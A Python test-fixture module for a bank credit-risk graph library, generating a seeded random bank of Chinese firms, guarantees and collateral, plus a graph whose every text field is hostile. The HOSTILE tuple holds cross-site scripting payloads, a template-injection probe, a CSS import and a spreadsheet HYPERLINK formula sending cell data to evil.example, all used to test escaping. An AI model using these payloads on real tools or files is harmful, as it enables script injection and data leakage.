"""A random bank for the views: every relation, Chinese names, groups of many sizes, a hub, rings; seeded."""

from __future__ import annotations

from datetime import date
from typing import Any

import numpy as np

from graphrisk.graph.riskgraph import RiskGraph
from tests.worlds.build import graph_of

_CITIES = ("杭州", "宁波", "温州", "绍兴", "台州", "苏州", "无锡", "青岛", "佛山", "东莞")
_FIRMS = ("宏达", "金鼎", "东方", "永兴", "恒通", "正大", "天成", "富邦", "百川", "鑫源", "中泰", "华盛")
_TRADES = ("纺织", "建材", "钢铁贸易", "机械制造", "化工", "食品", "电子", "物流", "医药", "房地产")


def random_bank(size: int, seed: int = 7, flows: bool = True) -> dict[str, list[dict[str, Any]]]:
    """Return rows of a bank with `size` parties, about 1.6 relations each."""
    rng = np.random.default_rng(seed)
    persons, ids = size // 6, []
    world: dict[str, list[dict[str, Any]]] = {name: [] for name in _TABLES}
    for k in range(size):
        person = k >= size - persons
        ids.append(f"{'N' if person else 'C'}{k:06d}")
        trade = _TRADES[int(rng.integers(len(_TRADES)))]
        city = _CITIES[int(rng.integers(len(_CITIES)))]
        name = f"自然人{k}" if person else f"{city}{_FIRMS[int(rng.integers(len(_FIRMS)))]}{trade}有限公司{k}"
        kind = "person" if person else "guarantee_company" if k % 97 == 5 else "bank" if k % 211 == 9 else "company"
        status = "defaulted" if rng.random() < 0.02 else "watch" if rng.random() < 0.03 else "active"
        world["parties"].append(
            {
                "party_id": ids[-1],
                "name": name,
                "kind": kind,
                "is_client": not person,
                "country": "CN",
                "region": city,
                "industry": None if person else trade,
                "size": "small",
                "status": None if person else status,
            }
        )
    firms = size - persons
    group = np.sort(rng.integers(0, max(size // 25, 1), firms))
    for k in range(firms):
        due = float(np.round(np.exp(rng.normal(15.5, 1.2)), 2))
        world["financials"].append({"party_id": ids[k], "equity": float(np.round(due * rng.normal(1.0, 0.9), 2))})
        world["ratings"].append({"party_id": ids[k], "pd": float(np.round(min(np.exp(rng.normal(-3.9, 1.1)), 1.0), 5))})
        if rng.random() < 0.8:
            world["facilities"].append(
                {
                    "facility_id": f"F{k:06d}",
                    "borrower_id": ids[k],
                    "outstanding": due,
                    "limit_amount": due * 1.3,
                    "product": "流动资金贷款",
                    "maturity_on": date(2027, 6, 30),
                    "days_past_due": int(rng.random() < 0.05) * 40,
                }
            )
    for k in range(firms):
        same = np.flatnonzero(group == group[k])
        for other in rng.choice(same, size=min(int(rng.poisson(0.9)), len(same)), replace=False).tolist():
            if other != k:
                amount = float(np.round(np.exp(rng.normal(15.0, 1.0)), 2))
                world["guarantees"].append({"guarantor_id": ids[k], "debtor_id": ids[other], "amount": amount})
        if rng.random() < 0.45:
            other = int(rng.integers(firms))
            amount = float(np.round(np.exp(rng.normal(14.0, 1.0)), 2))
            world["supplies"].append(
                {"supplier_id": ids[k], "buyer_id": ids[other], "amount": amount, "product": "原料"}
            )
    for k in range(firms, size):
        share = float(np.round(rng.uniform(0.05, 1.0), 3))
        owned = ids[int(rng.integers(firms))]
        world["ownership"].append({"owner_id": ids[k], "owned_id": owned, "share_min": share, "share_max": share})
    for k in range(0, len(world["facilities"]), 9):
        facility = world["facilities"][k]
        asset = f"A{k:05d}"
        world["collateral"].append(
            {
                "collateral_id": asset,
                "name": f"厂房{k}",
                "owner_id": facility["borrower_id"],
                "value": 5e6,
                "kind": "real_estate",
            }
        )
        world["pledges"].append(
            {"facility_id": facility["facility_id"], "collateral_id": asset, "allocated_amount": 3e6}
        )
    if flows:
        for _ in range(size // 4):
            a, b = rng.choice(firms, size=2, replace=False).tolist()
            world["fund_flows"].append(
                {"payer_id": ids[a], "payee_id": ids[b], "amount": 1e5, "paid_on": date(2026, 8, 1)}
            )
    for number, row in enumerate(world["guarantees"]):
        row["guarantee_id"] = f"G{number:06d}"
    return world


_TABLES = (
    "parties",
    "financials",
    "ratings",
    "facilities",
    "guarantees",
    "supplies",
    "ownership",
    "collateral",
    "pledges",
    "fund_flows",
)


def random_graph(size: int, seed: int = 7) -> RiskGraph:
    """Return the RiskGraph of a random bank."""
    return graph_of(**random_bank(size, seed))


HOSTILE = (
    '<img src=x onerror="window.__pwn=1">',
    "</script><script>window.__pwn=1</script><!--",
    "<a href='javascript:window.__pwn=1'>href</a><img src=x onerror='window.__pwn=1'>",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "\u2028\u2029'\"`${window.__pwn=1}{{7*7}}",
    "@import url(http://evil.example/x.css)",
)
"""Names that a client file may hold, each of which ran, or asked the network, in some tool."""


def hostile_graph() -> RiskGraph:
    """Return a ring of guarantees in which every text a source can choose is hostile."""
    ids = [f"{text}#{k}" for k, text in enumerate(HOSTILE)]
    many = len(ids)
    return graph_of(
        parties=[
            {
                "party_id": i,
                "name": HOSTILE[k],
                "industry": HOSTILE[(k + 1) % many],
                "region": HOSTILE[(k + 2) % many],
                "country": HOSTILE[0],
                "lei": HOSTILE[2],
                "national_id": HOSTILE[1],
                "source": HOSTILE[3],
            }
            for k, i in enumerate(ids)
        ],
        financials=[{"party_id": i, "equity": 10.0} for i in ids],
        facilities=[
            {"facility_id": f"{HOSTILE[0]}F{k}", "borrower_id": i, "outstanding": 50.0, "product": HOSTILE[1]}
            for k, i in enumerate(ids)
        ],
        guarantees=[
            {
                "guarantee_id": f"{HOSTILE[1]}G{k}",
                "guarantor_id": ids[(k + 1) % many],
                "debtor_id": i,
                "facility_id": f"{HOSTILE[0]}F{k}",
                "amount": 50.0,
                "source": HOSTILE[2],
            }
            for k, i in enumerate(ids)
        ],
        ownership=[{"owner_id": ids[0], "owned_id": ids[1], "share_min": 0.4, "share_max": 0.6, "source": HOSTILE[1]}],
        supplies=[
            {"supplier_id": ids[0], "buyer_id": ids[1], "amount": 1.0, "product": HOSTILE[1], "source": HOSTILE[0]}
        ],
        collateral=[
            {"collateral_id": HOSTILE[0], "name": HOSTILE[2], "owner_id": ids[0], "value": 1.0, "region": HOSTILE[1]}
        ],
        pledges=[{"facility_id": f"{HOSTILE[0]}F{k}", "collateral_id": HOSTILE[0]} for k in range(2)],
    )
